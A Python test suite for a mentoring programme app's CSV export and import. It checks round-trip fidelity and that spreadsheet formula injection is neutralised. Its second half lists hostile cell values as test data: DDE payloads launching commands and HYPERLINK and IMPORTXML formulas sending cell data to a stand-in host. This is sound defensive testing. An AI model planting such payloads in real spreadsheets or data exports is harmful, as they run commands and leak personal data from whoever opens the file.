"""Export a round as CSV, and import it again unchanged."""

from __future__ import annotations

import codecs
import csv
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mentorapp import i18n
from mentorapp.dataio.csv_files import CsvWriteFailed, from_spreadsheet_cell, spreadsheet_cell
from mentorapp.dataio.decision_csv import write_decision_csv
from mentorapp.dataio.importer import ImportOptions, run_import
from mentorapp.dataio.participants_csv import write_participants_csv
from mentorapp.domain.codes import education_field_label
from mentorapp.programme.programmes import RoundNotFound
from mentorapp.workspace.services import Services
from tests.dataio.helpers import HEADER, SAMPLES, csv_bytes, people, row

MENTOR_HEADER = [
    "First name",
    "Last name",
    "E-mail",
    "Phone",
    "City",
    "Digital meetings",
    "Languages",
    "Education level",
    "Field of education",
    "Industry",
    "Years of experience",
    "Job title",
    "Employer",
    "Number of adepts",
    "Gender",
]
ADEPT_ROWS = [
    [
        "Förnamn",
        "Efternamn",
        "E-post",
        "Telefon",
        "Ort",
        "Digitala träffar",
        "Språk",
        "Utbildningsområde",
        "Bransch",
        "Års erfarenhet",
        "Mål",
        "Önskat kön på mentor",
        "Kön",
    ],
    [
        "Łucja",
        "Wójcik",
        "Lucja@Example.com",
        "+46 70 174 06 05",
        "Malmö",
        "x",
        "Svenska och engelska",
        "481a",
        "j",
        "",
        'Säga "hej", sen\nmer',
        "kvinna",
        "kvinna",
    ],
    [
        "Ali",
        "Nazari",
        "ali@example.com",
        "",
        "Umeå",
        "",
        "en",
        "Eget område",
        "Något eget",
        "12",
        "",
        "",
        "",
    ],
]


def read_rows(data: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def export(services: Services, cohort: str, role: str, path: Path) -> bytes:
    write_participants_csv(services.database, cohort, role, path)
    return path.read_bytes()


def test_export_format(services, tmp_path: Path) -> None:
    run_import(services.database, csv_bytes(ADEPT_ROWS), ImportOptions("adept", "Vår 2027"))
    path = tmp_path / "adepts.csv"
    assert write_participants_csv(services.database, "vår 2027", "adept", path) == 2
    data = path.read_bytes()
    assert data.startswith(codecs.BOM_UTF8)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == [
        "First name",
        "Last name",
        "E-mail",
        "Phone",
        "City",
        "Digital meetings",
        "Languages",
        "Education level",
        "Field of education",
        "Industry",
        "Years of experience",
        "Job title",
        "Goal",
        "Gender",
        "Preferred mentor gender",
    ]
    assert rows[1] == [
        "Łucja",
        "Wójcik",
        "lucja@example.com",
        "+46 70 174 06 05",
        "Malmö",
        "yes",
        "sv, en",
        "",
        "481a",
        "j",
        "",
        "",
        'Säga "hej", sen\nmer',
        "kvinna",
        "kvinna",
    ]
    assert rows[2][5:11] == ["no", "en", "", "Eget område", "Något eget", "12"]
    assert b"\r\n" in data and not list(tmp_path.glob("*.partial"))


def test_code_label_is_exported_when_there_are_no_own_words(services, tmp_path: Path) -> None:
    run_import(services.database, csv_bytes(ADEPT_ROWS), ImportOptions("adept", "Vår 2027"))
    with services.database.transaction() as session:
        person = people(services.database)["ali@example.com"]
        person.education_field, person.education_field_text = "4", ""
        session.add(person)
    data = export(services, "Vår 2027", "adept", tmp_path / "a.csv").decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(data, newline="")))[2]
    assert row[8] == education_field_label("4", "en") != ""
    i18n.set_language("sv")
    data = export(services, "Vår 2027", "adept", tmp_path / "a.csv").decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(data, newline="")))[2][8] == education_field_label("4", "sv")


def round_trip(services: Services, tmp_path: Path, role: str, source: bytes) -> None:
    run_import(services.database, source, ImportOptions(role, "Vår 2027"))
    first = export(services, "Vår 2027", role, tmp_path / "first.csv")
    with Services.opened(tmp_path / "fresh.db") as fresh:
        report = run_import(fresh.database, first, ImportOptions(role, "Vår 2027"))
        assert report.errors == [] and report.created == len(read_rows(first)) - 1
        second = export(fresh, "Vår 2027", role, tmp_path / "second.csv")
        again = people(fresh.database)
    assert second == first
    original = people(services.database)
    assert sorted(again) == sorted(original)
    for email, person in original.items():
        copy = again[email]
        for name in type(person).model_fields:
            if name not in ("id", "organisation_id"):
                assert getattr(copy, name) == getattr(person, name), (email, name)
        assert (copy.organisation_id is None) == (person.organisation_id is None)


def test_adepts_round_trip(services, tmp_path: Path) -> None:
    round_trip(services, tmp_path, "adept", csv_bytes(ADEPT_ROWS))


def test_mentors_round_trip(services, tmp_path: Path) -> None:
    if not SAMPLES.is_dir():
        pytest.skip(f"the shared sample files are not here: {SAMPLES}")
    round_trip(services, tmp_path, "mentor", (SAMPLES / "mentors_en_comma.csv").read_bytes())


def test_swedish_sample_round_trip(services, tmp_path: Path) -> None:
    if not SAMPLES.is_dir():
        pytest.skip(f"the shared sample files are not here: {SAMPLES}")
    source = (SAMPLES / "adepts_sv_semicolon_bom.csv").read_bytes()
    round_trip(services, tmp_path, "adept", source)


def test_mentor_export_has_only_mentor_columns(services, tmp_path: Path) -> None:
    rows = [
        MENTOR_HEADER,
        [
            "Karin",
            "L",
            "k@example.com",
            "",
            "Lund",
            "yes",
            "sv",
            "",
            "Ekonomi",
            "K",
            "18",
            "Controller",
            "Västbanken AB",
            "2",
            "",
        ],
    ]
    run_import(services.database, csv_bytes(rows), ImportOptions("mentor", "Vår 2027"))
    data = export(services, "Vår 2027", "mentor", tmp_path / "m.csv").decode("utf-8-sig")
    assert data.splitlines()[0] == ",".join(MENTOR_HEADER)
    assert data.splitlines()[1].endswith(",Controller,Västbanken AB,2,")


def test_an_unknown_round_names_the_rounds_that_exist(services, cohort, tmp_path) -> None:
    with pytest.raises(RoundNotFound) as caught:
        write_participants_csv(services.database, "Höst 2030", "adept", tmp_path / "x.csv")
    assert "“Vår 2027”" in caught.value.user_message()
    assert not (tmp_path / "x.csv").exists()


def test_no_rounds_at_all(services, tmp_path) -> None:
    with pytest.raises(RoundNotFound, match="no rounds yet"):
        write_participants_csv(services.database, "Vår 2027", "adept", tmp_path / "x.csv")


def test_an_unwritable_place_is_reported(services, cohort, tmp_path) -> None:
    with pytest.raises(CsvWriteFailed, match="could not write"):
        write_participants_csv(services.database, "Vår 2027", "adept", tmp_path / "no" / "x.csv")
    assert not (tmp_path / "no").exists()


# -- Formula cells -------------------------------------------------------------------------
# What a hostile applicant may type into a form, so that the coordinator's spreadsheet runs it.
DDE = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("https://evil.example/?d="&A2&B2,"Read more")'
FORMULA_CELLS = [
    ("=1+1", "'=1+1"),
    (LINK, "'" + LINK),
    (DDE, "'" + DDE),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("+1+1", "'+1+1"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\0=1+1", "'\0=1+1"),
    ("  =1+1", "'  =1+1"),  # a spreadsheet that trims spaces would see "=1+1"
    ("'=1+1", "''=1+1"),  # a value that really starts with "'" comes back with it
    ("' =1", "'' =1"),
]
PLAIN_CELLS = [
    "+46 70 123 45 67",
    "+46 (0)70-123 45 67",
    "-5",
    "-2,5",
    "-",
    "070-123 45 67",
    "Malmö",
    "'Malmö",  # a text mark before something harmless is the applicant's own
    "a=b",
    "",
]


@pytest.mark.parametrize(("value", "cell"), FORMULA_CELLS)
def test_a_formula_cell_is_marked_as_text(value: str, cell: str) -> None:
    assert spreadsheet_cell(value) == cell
    assert from_spreadsheet_cell(cell) == value


@pytest.mark.parametrize("value", PLAIN_CELLS)
def test_phone_numbers_plain_numbers_and_text_stay(value: str) -> None:
    assert spreadsheet_cell(value) == value
    assert from_spreadsheet_cell(value) == value


@settings(max_examples=400, deadline=None)
@given(st.text(alphabet=st.sampled_from("=+-@'\t\r\0 (),.5aA!:$"), max_size=8) | st.text())
def test_every_value_comes_back_and_none_starts_a_formula(value: str) -> None:
    cell = spreadsheet_cell(value)
    assert from_spreadsheet_cell(cell) == value
    start = cell.lstrip(" ")[:1]  # what a spreadsheet that trims spaces sees first
    if start and start in "=+-@\t\r\0":  # only a plain number may start like that
        assert cell == value and not any(c.isalpha() or c in "!:$'" for c in cell)


def test_cells_that_are_not_text() -> None:
    assert [spreadsheet_cell(v) for v in (None, 3, -4, 2.5)] == ["", "3", "-4", "2.5"]


# An application with a formula in every column that takes free text.
HOSTILE_HEADER = [*ADEPT_ROWS[0], "Utbildningsnivå", "Befattning"]
HOSTILE_ADEPT = [
    LINK,  # first name
    "@SUM(1+1)*cmd|' /C calc'!A0",  # last name
    "-x@example.com",  # e-mail
    "+1+cmd|' /C calc'!A0",  # phone
    DDE,  # city
    "x",
    "sv",
    "=2+5",  # field of education (own words)
    "-2+3",  # industry (own words)
    "",
    '=IMPORTXML(CONCAT("https://evil.example/?v=",A2),"//a")',  # goal
    "@kvinna",  # preferred mentor gender
    "=A1",  # gender
    "+1+1",  # education level
    "-A1",  # job title
]
PLAIN_ADEPT = [*ADEPT_ROWS[1], "'Master", "Ekonom"]
HOSTILE_MENTOR = [
    "Karin",
    "L",
    "k@example.com",
    "+46 70 123 45 67",
    "Lund",
    "yes",
    "sv",
    "",
    "Ekonomi",
    "K",
    "18",
    "Controller",
    '=HYPERLINK("https://evil.example")',  # employer
    "2",
    "-",
]


def hostile_adepts() -> bytes:
    return csv_bytes([HOSTILE_HEADER, HOSTILE_ADEPT, PLAIN_ADEPT])


def assert_no_formula(rows: list[list[str]]) -> None:
    """No cell begins like a formula, unless it is only a phone number or a plain number."""
    for cells in rows:
        for cell in cells:
            if cell[:1] in "=+-@\t\r\0":
                assert spreadsheet_cell(cell) == cell and not any(c.isalpha() for c in cell), cell


def test_the_participants_export_marks_every_formula_cell(services, tmp_path: Path) -> None:
    report = run_import(services.database, hostile_adepts(), ImportOptions("adept", "Vår 2027"))
    assert report.errors == [] and report.created == 2
    stored = people(services.database)["-x@example.com"]
    assert (stored.city, stored.phone) == (DDE, "+1+cmd|' /C calc'!A0")  # stored as typed
    header, hostile, plain = read_rows(export(services, "Vår 2027", "adept", tmp_path / "a.csv"))
    assert_no_formula([header, hostile, plain])
    assert dict(zip(header, hostile, strict=True)) == {
        "First name": "'" + LINK,
        "Last name": "'@SUM(1+1)*cmd|' /C calc'!A0",
        "E-mail": "'-x@example.com",
        "Phone": "'+1+cmd|' /C calc'!A0",
        "City": "'" + DDE,
        "Digital meetings": "yes",
        "Languages": "sv",
        "Education level": "'+1+1",
        "Field of education": "'=2+5",
        "Industry": "'-2+3",
        "Years of experience": "",
        "Job title": "'-A1",
        "Goal": '\'=IMPORTXML(CONCAT("https://evil.example/?v=",A2),"//a")',
        "Gender": "'=A1",
        "Preferred mentor gender": "'@kvinna",
    }
    assert plain[3] == "+46 70 174 06 05" and plain[7] == "'Master"  # phone and own mark stay


def test_the_mentor_export_marks_the_employer(services, tmp_path: Path) -> None:
    rows = [MENTOR_HEADER, HOSTILE_MENTOR]
    run_import(services.database, csv_bytes(rows), ImportOptions("mentor", "Vår 2027"))
    header, mentor = read_rows(export(services, "Vår 2027", "mentor", tmp_path / "m.csv"))
    assert_no_formula([header, mentor])
    assert mentor[header.index("Employer")] == '\'=HYPERLINK("https://evil.example")'
    assert mentor[header.index("Phone")] == "+46 70 123 45 67"
    assert mentor[header.index("Gender")] == "-"


def test_formula_cells_import_again_as_they_were_typed(services, tmp_path: Path) -> None:
    round_trip(services, tmp_path, "adept", hostile_adepts())


def test_a_formula_employer_imports_again_as_typed(services, tmp_path: Path) -> None:
    round_trip(services, tmp_path, "mentor", csv_bytes([MENTOR_HEADER, HOSTILE_MENTOR]))


def test_a_coordinators_own_text_mark_is_taken_off_only_before_a_formula(services) -> None:
    rows = [HEADER, row("Amal", city="'=A1"), row("Bo", city="'Malmö"), row("Cy", city="'+46 70")]
    run_import(services.database, csv_bytes(rows), ImportOptions("adept", "Vår 2027"))
    cities = {p.first_name: p.city for p in people(services.database).values()}
    assert cities == {"Amal": "=A1", "Bo": "'Malmö", "Cy": "'+46 70"}


def test_the_decision_list_marks_every_formula_cell(services, tmp_path: Path) -> None:
    run_import(services.database, hostile_adepts(), ImportOptions("adept", "Vår 2027"))
    cohort = services.programmes.round_named("Vår 2027")
    ids = [r.enrolment_id for r in services.participants.rows(cohort.id)]
    services.pipeline.change_status(ids[:1], "accepted")
    services.pipeline.change_status(ids[1:], "declined", "-1+cmd|' /C calc'!A0")
    path = tmp_path / "decisions.csv"
    assert write_decision_csv(services.pipeline, cohort.id, path, delimiter=";") == 2
    header, *rows = read_rows(path.read_bytes(), ";")
    assert_no_formula([header, *rows])
    by_email = {r[4]: r for r in rows}
    assert by_email["'-x@example.com"][2:4] == ["'" + LINK, "'@SUM(1+1)*cmd|' /C calc'!A0"]
    assert by_email["lucja@example.com"][5] == "'-1+cmd|' /C calc'!A0"
